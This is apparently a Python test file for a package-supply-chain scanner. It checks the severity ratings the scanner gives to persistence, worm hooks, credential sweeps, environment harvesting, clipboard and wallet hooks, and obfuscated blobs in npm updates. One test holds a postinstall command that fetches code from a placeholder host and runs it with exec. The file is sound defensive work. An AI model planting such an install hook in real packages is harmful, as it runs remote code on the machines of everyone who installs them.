"""Rules as calibrated on the held-out stand-ins (persistence, worms, download-and-run,
environment harvests, credential sweeps, clipboard clippers) and on the false alarms of real
upgrade pull requests (blobs, files past the parse cap) (scanner/verdict/rules.py)."""

from __future__ import annotations

import dataclasses

from scanner.behaviour.model import Capability as C
from scanner.behaviour.model import PackageProfile, Zone
from scanner.model import Severity
from scanner.verdict import PackageMetadata, Verdict, judge
from tests.verdict.profiles import profile

PLAIN = profile({"index.js": []})
NO_HISTORY = PackageMetadata(version_count=2)
HISTORY = PackageMetadata(version_count=80)


def _rules(verdict: Verdict) -> set[str]:
    return {r.rule for r in verdict.reasons}


def test_code_that_sets_itself_up_to_run_at_login_is_high_in_an_update() -> None:
    new = profile({"index.js": [], "lib/cache.js": [(C.FILE_WRITE, 17, "persistence")]})
    verdict = judge("pkg", "4.2.0", "4.2.1", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert "persistence" in _rules(verdict)
    assert "run again at login or on a schedule" in verdict.summary
    # The same start-up item the old version already installed is not new behaviour.
    assert judge("pkg", "4.2.0", "4.2.1", new, new).severity is Severity.INFO


def test_persistence_in_a_new_package_weighs_by_its_history_but_a_worm_never_passes() -> None:
    startup = profile({"index.js": [(C.FILE_WRITE, 3, "persistence")]})
    assert judge("x", None, "1.0.0", None, startup, metadata=NO_HISTORY).severity is Severity.HIGH
    # A process manager with a long history installs start-up items by design.
    assert judge("pm", None, "5.0.0", None, startup, metadata=HISTORY).severity is Severity.MEDIUM
    worm = profile({"index.js": [(C.FILE_WRITE, 47, "install-hook-injection")]})
    assert judge("x", None, "1.0.0", None, worm, metadata=HISTORY).severity is Severity.HIGH


def test_ordinary_writes_are_still_not_weighed() -> None:
    new = profile({"index.js": [(C.FILE_WRITE, 3, "temp"), (C.FILE_WRITE, 4, "package")]})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, new).severity is Severity.INFO


def test_an_update_that_fetches_and_loads_code_in_one_file_is_high() -> None:
    new = profile(
        {"index.js": [], "config.js": [(C.NETWORK, 12), (C.COMPUTED_REQUIRE, 16, "require")]},
        {"config.js": Zone.OTHER},
    )
    verdict = judge("pkg", "1.2.5", "1.3.0", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert "download-and-run" in _rules(verdict)
    # Apart, in two files, each is an ordinary feature: first network access of a minor release.
    apart = profile(
        {"index.js": [], "net.js": [(C.NETWORK, 2)], "plugins.js": [(C.COMPUTED_REQUIRE, 5)]},
        {"net.js": Zone.OTHER, "plugins.js": Zone.OTHER},
    )
    assert judge("pkg", "1.2.5", "1.3.0", PLAIN, apart).severity is Severity.MEDIUM


def test_a_package_with_no_history_that_fetches_and_loads_code_is_an_unvouched_loader() -> None:
    new = profile({"index.js": [(C.NETWORK, 12), (C.COMPUTED_REQUIRE, 16, "require")]})
    verdict = judge("x", None, "1.0.0", None, new, metadata=NO_HISTORY)
    assert verdict.severity is Severity.HIGH
    assert "unvouched-loader" in _rules(verdict)
    assert judge("x", None, "9.0.0", None, new, metadata=HISTORY).severity < Severity.HIGH


def test_the_whole_environment_collected_beside_the_network_is_a_harvest() -> None:
    new = profile({"esm/index.mjs": [(C.ENV_ALL, 14, "enumerated"), (C.NETWORK, 16)]})
    update = judge("pkg", "2.2.0", "2.3.0", PLAIN, new)
    assert update.severity is Severity.HIGH
    assert "exfiltration" in _rules(update)
    assert judge("x", None, "1.0.0", None, new, metadata=NO_HISTORY).severity is Severity.HIGH
    assert judge("x", None, "3.0.0", None, new, metadata=HISTORY).severity is Severity.MEDIUM
    # Passed on to a child process, the environment is forwarded, not collected.
    forwarded = profile({"index.js": [(C.ENV_ALL, 14, "passed"), (C.NETWORK, 16)]})
    assert judge("pkg", "2.2.0", "2.2.1", PLAIN, forwarded).severity is not Severity.CRITICAL
    assert "exfiltration" not in _rules(judge("pkg", "2.2.0", "2.2.1", PLAIN, forwarded))


def test_three_credential_stores_read_by_one_file_is_a_sweep() -> None:
    sweep = profile(
        {
            "dist/agent.js": [
                (C.CREDENTIAL_ACCESS, 35, "aws"),
                (C.CREDENTIAL_ACCESS, 37, "kube"),
                (C.CREDENTIAL_ACCESS, 38, "docker"),
            ]
        }
    )
    verdict = judge("pkg", "1.4.3", "2.0.0", PLAIN, sweep)
    assert verdict.severity is Severity.HIGH
    assert "credential-sweep" in _rules(verdict)
    # A cloud tool reading its own configuration (and ssh) is worth a look, not a stop.
    own = profile({"index.js": [(C.CREDENTIAL_ACCESS, 3, "aws"), (C.CREDENTIAL_ACCESS, 5, "ssh")]})
    assert judge("pkg", "1.4.3", "2.0.0", PLAIN, own).severity is Severity.MEDIUM


def test_a_clipboard_clipper_in_a_new_package_is_high_but_a_fetch_wrapper_is_not() -> None:
    clipper = profile({"index.js": [(C.WALLET_HOOK, 9, "clipboard-swap")]})
    assert judge("x", None, "1.0.0", None, clipper, metadata=HISTORY).severity is Severity.HIGH
    wrapper = profile({"index.js": [(C.WALLET_HOOK, 9, "fetch-override")]})
    assert judge("x", None, "1.0.0", None, wrapper, metadata=HISTORY).severity is Severity.MEDIUM


def test_inline_python_that_fetches_code_in_an_install_script_is_a_download() -> None:
    command = "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x.invalid').read())\""
    new = profile({"index.js": []}, scripts={"postinstall": command})
    verdict = judge("pkg", "0.9.3", "0.9.4", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert "install-inline-download" in _rules(verdict)
    harmless = profile({"index.js": []}, scripts={"postinstall": "python3 -c 'import sys'"})
    assert judge("pkg", "0.9.3", "0.9.4", PLAIN, harmless).severity is Severity.MEDIUM


def _read_with_patterns(built: PackageProfile, path: str) -> PackageProfile:
    files = dict(built.files)
    files[path] = dataclasses.replace(files[path], parsed=False, note="over the parse-size cap")
    return dataclasses.replace(built, files=files)


def test_a_bundle_that_grew_past_the_parse_cap_is_not_judged_high_on_pattern_differences() -> None:
    old = profile({"dist/bundle.min.js": [(C.DYNAMIC_CODE, 9, "Function")]})
    grown = _read_with_patterns(
        profile({"dist/bundle.min.js": [(C.DYNAMIC_CODE, 9, "Function"), (C.NETWORK, 24755)]}),
        "dist/bundle.min.js",
    )
    verdict = judge("terser", "5.36.0", "5.36.1", old, grown)
    assert verdict.severity is Severity.MEDIUM
    assert "read with text patterns only" in verdict.summary
    # Both versions read with patterns: the comparison is like with like and keeps its weight.
    both = judge(
        "terser", "5.36.0", "5.36.1", _read_with_patterns(old, "dist/bundle.min.js"), grown
    )
    assert both.severity is Severity.HIGH


def _blob(kind: str, digest: str) -> tuple[C, int, str]:
    return (C.OBFUSCATION, 4, f"{kind} sha256:{digest}")


def test_a_packed_data_blob_alone_in_an_entry_point_is_medium_beside_a_decoder_high() -> None:
    table = profile({"dist/decode-data.js": [_blob("high-entropy-string", "64c89bc3e3cb99b7")]})
    verdict = judge("entities", "4.5.0", "4.5.1", PLAIN, table)
    assert verdict.severity is Severity.MEDIUM
    decoded = profile(
        {"index.js": [_blob("base64-blob", "aa11"), (C.DECODE, 6, "base64"), (C.DYNAMIC_CODE, 7)]}
    )
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, decoded).severity is Severity.HIGH
    # Code made unreadable on purpose needs nothing beside it.
    obfuscated = profile({"index.js": [(C.OBFUSCATION, 1, "obfuscator-identifiers")]})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, obfuscated).severity is Severity.HIGH


def test_a_blob_rebuilt_where_the_old_version_had_one_of_its_kind_is_not_new() -> None:
    def worker(digest: str) -> PackageProfile:
        return profile(
            {"dist/zip.js": [_blob("base64-blob", digest), (C.DYNAMIC_CODE, 9, "Function")]}
        )

    assert judge("zip", "2.7.53", "2.7.54", worker("447f"), worker("959a")).severity is (
        Severity.INFO
    )
    # A blob of that kind where the old file had none is new, and beside a loader it is high.
    plain = profile({"dist/zip.js": [(C.DYNAMIC_CODE, 9, "Function")]})
    assert judge("zip", "2.7.53", "2.7.54", plain, worker("959a")).severity is Severity.HIGH


def test_prebuilt_addons_for_many_platforms_are_medium_but_one_dropped_library_is_high() -> None:
    platforms = ("linux-x64", "linux-arm64", "darwin-arm64", "win32-x64")
    prebuilt = profile({"index.js": []}, binaries=[f"prebuilds/{p}/addon.node" for p in platforms])
    verdict = judge("bare-path", "3.0.1", "3.1.3", PLAIN, prebuilt)
    assert verdict.severity is Severity.MEDIUM
    assert "prebuilt native addons for 4 platforms" in verdict.summary
    dropped = profile({"index.js": []}, binaries=["compile.dll"])
    assert judge("rc", "1.2.8", "1.2.9", PLAIN, dropped).severity is Severity.HIGH
    # Two platforms in the layout, or one binary outside it, is not a build pipeline's output.
    mixed = profile(
        {"index.js": []},
        binaries=["prebuilds/linux-x64/a.node", "prebuilds/win32-x64/a.node", "lib/x.so"],
    )
    assert judge("pkg", "1.0.0", "1.1.0", PLAIN, mixed).severity is Severity.HIGH


def test_an_http_library_installing_its_own_fetch_is_medium_but_a_new_fetch_hook_is_high() -> None:
    client = profile({"index.js": [(C.NETWORK, 3, "https")]})
    installs = profile(
        {"index.js": [(C.NETWORK, 3, "https"), (C.WALLET_HOOK, 222, "fetch-override")]}
    )
    assert judge("undici", "6.26.0", "7.30.2", client, installs).severity is Severity.MEDIUM
    # chalk had no network code: a replaced fetch is the hijack's first step.
    hooked = profile({"index.js": [(C.WALLET_HOOK, 1, "fetch-override")]})
    assert judge("chalk", "5.6.0", "5.6.1", PLAIN, hooked).severity is Severity.HIGH
    # A wallet hook stays high whatever the package did before.
    wallet = profile({"index.js": [(C.NETWORK, 3, "https"), (C.WALLET_HOOK, 9, "ethereum-hook")]})
    assert judge("undici", "6.26.0", "7.30.2", client, wallet).severity is Severity.HIGH


def test_network_code_in_tests_does_not_make_a_package_a_network_library() -> None:
    tested = profile(
        {"index.js": [], "test/server.js": [(C.NETWORK, 2)]}, {"test/server.js": Zone.TEST}
    )
    hooked = profile(
        {"index.js": [(C.WALLET_HOOK, 1, "fetch-override")], "test/server.js": [(C.NETWORK, 2)]},
        {"test/server.js": Zone.TEST},
    )
    assert judge("chalk", "5.6.0", "5.6.1", tested, hooked).severity is Severity.HIGH


def test_a_form_library_that_starts_asking_for_wallet_transactions_is_high() -> None:
    forms = profile({"dist/formkit.js": [(C.NETWORK, 3, "fetch")]})
    drains = profile(
        {"dist/formkit.js": [(C.NETWORK, 3, "fetch"), (C.WALLET_HOOK, 111, "wallet-transaction")]}
    )
    verdict = judge("formkit", "3.2.0", "3.2.1", forms, drains)
    assert verdict.severity is Severity.HIGH
    assert "asks the browser wallet to sign or send a transaction" in verdict.summary
    # A wallet library seen for the first time makes such requests by design.
    assert judge("wagmi", None, "2.0.0", None, drains, metadata=HISTORY).severity is (
        Severity.MEDIUM
    )
